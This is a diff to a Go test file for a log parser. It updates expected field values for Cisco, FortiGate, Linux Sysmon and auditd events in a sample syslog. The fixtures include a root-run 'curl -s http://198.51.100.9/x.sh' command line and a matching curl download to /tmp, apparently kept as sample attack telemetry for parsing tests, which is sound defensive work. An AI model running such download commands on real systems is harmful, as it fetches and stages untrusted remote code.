@@ -24,7 +24,11 @@ func TestShapes(t *testing.T) {
 		skipped int64
 		checks  []check
 	}{
-		{"syslog.log", 12, 1, []check{
+		{"syslog.log", 14, 1, []check{
+			{event: 8, fields: map[string]string{"cisco.facility": "PARSER", "cisco.mnemonic": "CFGLOG_LOGGEDCMD"}, prod: "cisco", svc: "aaa"},
+			{event: 12, fields: map[string]string{"cisco.facility": "SYS", "cisco.mnemonic": "CONFIG_I"}, prod: "cisco", svc: "aaa"},
+			{event: 13, fields: map[string]string{"action": "Edit", "cfgpath": "system.admin", "cfgattr": "password[*]", "user": "operator", "user.name": "operator", "cfgtid": "1", "message": "Edit system.admin operator"},
+				host: "FGT-1", time: "2024-03-01T10:00:02Z", prod: "fortigate", svc: "event"},
 			{event: 11, fields: map[string]string{"EventID": "1", "Provider_Name": "Linux-Sysmon", "Channel": "Linux-Sysmon/Operational", "Image": "/usr/bin/curl",
 				"CommandLine": "curl -s http://198.51.100.9/x.sh", "User": "root", "process.name": "sysmon"}, host: "lx-1", time: "2024-03-01T10:00:00.123456Z", prod: "linux"},
 			{event: 9, fields: map[string]string{"type": "EXECVE", "a0": "curl", "a1": "-o", "a2": "/tmp/x sh\n", "argc": "3", "event.sequence": "4242"},
